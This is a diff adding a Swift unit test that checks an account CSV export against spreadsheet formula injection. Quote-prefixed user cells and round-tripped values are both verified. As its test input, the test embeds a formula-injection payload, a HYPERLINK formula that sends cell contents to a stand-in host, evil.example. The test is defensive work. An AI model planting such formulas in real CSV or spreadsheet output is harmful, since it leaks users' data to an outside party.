@@ -116,4 +116,35 @@ struct ExportedAccountTests {
             #expect(again.account.links.map(\.provider) == ["google.com"])
         }
     }
+
+    @Test("T161 no text that users choose is a formula in CSV; numbers, base64 and plain ids stay as firebase-tools reads them")
+    func formulas() throws {
+        let formula = #"=HYPERLINK("https://evil.example/?"&A1,"x")"#
+        func account(_ id: String) throws -> Account {
+            var account = Account(id: AccountID(id), createdAt: Timestamp(milliseconds: 1))
+            account.email = EmailAddress(canonical: "-2+3@example.com")
+            (account.displayName, account.photoURL) = (formula, "@" + formula)
+            account.phone = PhoneNumber("+15550100001")
+            account.identities.append(
+                Identity(
+                    key: IdentityKey(provider: .google, issuer: ProviderID.google.canonicalIssuer, subject: formula),
+                    email: EmailAddress(canonical: "+x@gmail.com"), profile: Profile(displayName: formula, photoURL: formula)))
+            return account
+        }
+        let tag = Data([0xFB, 0xEF, 0xBE])
+        for (id, cell) in [("-Kx_9", "-Kx_9"), ("-1+1", "'-1+1"), ("=a", "'=a"), ("a=", "a=")] {
+            let line = AccountExport.csv(try account(id), hash: (tag, tag))
+            let cells = try #require(CSVFields.split(Array(line.utf8)))
+            #expect(cells[0] == cell && cells[3] == "++++" && cells[4] == "++++" && cells[25] == "+15550100001")
+            for column in [1, 5, 6, 7, 8, 9, 10] { #expect(cells[column].hasPrefix("'"), "\(column)") }
+            let formulas = cells.indices.filter { ["=", "+", "-", "@"].contains(cells[$0].prefix(1)) }
+            #expect(Set(formulas).isSubset(of: [0, 3, 4, 25]))
+            let again = try read(line, .csv).account
+            #expect(again.id == id && again.email == "-2+3@example.com" && again.phone == "+15550100001")
+            #expect(again.displayName == formula && again.photoURL == "@" + formula && again.passwordHash == "++++")
+            let link = try #require(again.links.first)
+            #expect(link.subject == formula && link.email == "+x@gmail.com")
+            #expect(link.displayName == formula && link.photoURL == formula)
+        }
+    }
 }
